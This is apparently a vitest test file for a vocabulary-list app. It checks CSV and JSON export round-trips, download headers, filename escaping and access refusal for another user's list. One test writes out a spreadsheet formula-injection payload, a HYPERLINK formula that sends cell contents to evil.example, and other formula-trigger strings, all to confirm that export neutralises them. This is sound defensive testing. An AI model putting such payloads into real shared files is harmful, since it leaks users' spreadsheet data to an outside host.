import { expect, test } from 'vitest';
import { addTopic, freshApp, freshStore } from '../../../test/fresh-store.ts';
import { itemsOf } from '../../../test/own-lists.ts';
import { Visitor } from '../../../test/visitor.ts';

async function fresh() {
  const store = await freshStore();
  await addTopic(store, 'Travel', ['gate']);
  const app = await freshApp(store);
  const [hoa, decoy] = [new Visitor(app), new Visitor(app)];
  await hoa.enter('hoa@example.com');
  await decoy.enter('decoy@example.com');
  const addList = async (name: string, text: string) => {
    const id = String((await hoa.ask('POST', '/api/me/lists', { name })).json().id);
    const added = await hoa.ask('POST', `/api/me/lists/${id}/words`, {
      items: itemsOf(text),
    });
    expect(added.json().refused).toBe(0);
    return id;
  };
  const wordsOf = async (id: string) =>
    (await hoa.ask('GET', `/api/me/lists/${id}`))
      .json()
      .words.map(({ word, type, phonetic, meaning }: Record<string, string>) => [
        word,
        type,
        phonetic,
        meaning,
      ]);
  return { hoa, decoy, addList, wordsOf };
}

const table = [
  'word;meaning;type;phonetic',
  'gate;;;',
  '"boarding; ""pass""";"thẻ, lên máy bay";n.;/ˈbɔrdɪŋ/',
  'quokka;=1+1;;',
  '"comma, word";dấu phẩy;v.;',
].join('\n');

test.each(['csv', 'json'])(
  'LI-05 what goes out as %s comes in again without loss',
  async (format) => {
    const { hoa, addList, wordsOf } = await fresh();
    const id = await addList('Sách lớp 9', table);
    const file = await hoa.ask('GET', `/api/me/lists/${id}/export?format=${format}`);
    expect([file.statusCode, file.headers['cache-control']]).toEqual([200, 'no-store']);
    expect(file.headers['content-disposition']).toBe(
      `attachment; filename="list.${format}"; filename*=UTF-8''S%C3%A1ch%20l%E1%BB%9Bp%209.${format}`,
    );
    expect(file.headers['content-type']).toMatch(
      format === 'csv' ? /^text\/csv; charset=utf-8/ : /^application\/json/,
    );
    const again = await addList('Again', file.body);
    expect(await wordsOf(again)).toEqual(await wordsOf(id));
    expect(await wordsOf(again)).toHaveLength(4);
  },
);

test("LI-05 an export: another learner's list, an unknown format, and a name with odd characters", async () => {
  const { hoa, decoy, addList } = await fresh();
  const id = await addList('a"b\\c/d\'e', 'quokka - chuột túi');
  const address = `/api/me/lists/${id}/export`;
  const refused = await decoy.ask('GET', `${address}?format=csv`);
  expect([refused.statusCode, refused.json().code]).toEqual([404, 'NOT_FOUND']);
  const unknown = await hoa.ask('GET', `${address}?format=doc`);
  expect([unknown.statusCode, unknown.json().errors[0].field]).toEqual([400, 'format']);
  const file = await hoa.ask('GET', `${address}?format=csv`);
  expect(file.headers['content-disposition']).toBe(
    `attachment; filename="list.csv"; filename*=UTF-8''a%22b%5Cc%2Fd%27e.csv`,
  );
});

test('IN-29 a table that goes out runs nothing in a spreadsheet, and comes in again as it was', async () => {
  const { hoa, addList, wordsOf } = await fresh();
  const link = '=HYPERLINK("http://evil.example/?"&A2,"click")';
  const id = String((await hoa.ask('POST', '/api/me/lists', { name: 'Shared' })).json().id);
  const items = [link, '@SUM(a)', "'=kept", '+a', '-ing', "'tis"].map((word) => ({
    word,
    meaning: '-2+3',
  }));
  const added = await hoa.ask('POST', `/api/me/lists/${id}/words`, { items });
  expect(added.json().refused).toBe(0);
  const file = (await hoa.ask('GET', `/api/me/lists/${id}/export?format=csv`)).body;
  expect(file).not.toMatch(/(?:^|,|\n)"?[=+\-@]/);
  const again = await addList('Again', file);
  expect(await wordsOf(again)).toEqual(await wordsOf(id));
  expect((await wordsOf(again))[0]).toContain(link);
});
